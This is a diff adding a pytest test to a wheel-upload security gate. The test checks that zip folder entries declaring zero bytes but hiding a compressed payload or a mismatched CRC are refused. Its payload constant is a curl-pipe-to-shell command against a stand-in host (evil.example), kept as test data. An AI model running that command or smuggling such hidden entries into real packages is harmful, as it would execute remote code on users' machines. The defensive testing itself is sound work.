@@ -445,6 +445,24 @@ def test_a_version_needed_that_zipfile_cannot_open_is_refused_by_the_gate_itself
     assert judge(wheel).passed
 
 
+PAYLOAD = b"import os; os.system('curl -s https://evil.example | sh')\n"
+FOLDER_PAYLOADS = {  # twelfth round: a folder entry with a declared size of 0 whose stored bytes were never read
+    "a deflate stream of code behind a declared size of 0": {"compressed": zlib.compress(PAYLOAD, 9)[2:-4], "crc": 0},
+    "a stored folder with the CRC of other bytes": {"method": zipfile.ZIP_STORED, "crc": zlib.crc32(PAYLOAD)},
+}
+
+
+@pytest.mark.parametrize("attack", list(FOLDER_PAYLOADS))
+def test_a_folder_entry_must_store_an_empty_member(built: Built, tmp_path: Path, attack: str) -> None:
+    """A folder is never read by pip or installer (both install the wheel as without it), so the gate never read one
+    either: a folder entry declaring 0 bytes passed with a deflate stream of any content behind it, or with the CRC of
+    other bytes, which `unzip -t` reads (a bad CRC: a damaged wheel) and which carry a payload into the upload."""
+    folder = RawMember(b"neurobrix/", b"", size=0, mode=stat.S_IFDIR | 0o755, **FOLDER_PAYLOADS[attack])  # type: ignore[arg-type]
+    wheel = write_wheel(built, tmp_path, [folder, *wheel_members(built.wheel)])
+    report = judge(wheel)
+    assert "not an empty member" in refused_with(report, "G304", "neurobrix/", built.wheel.name).message
+
+
 def test_executable_mode_behind_a_dos_host_byte_is_seen(built: Built, tmp_path: Path) -> None:
     """pip reads the Unix mode whatever host "version made by" names; so does the gate."""
     members = wheel_members(built.wheel)
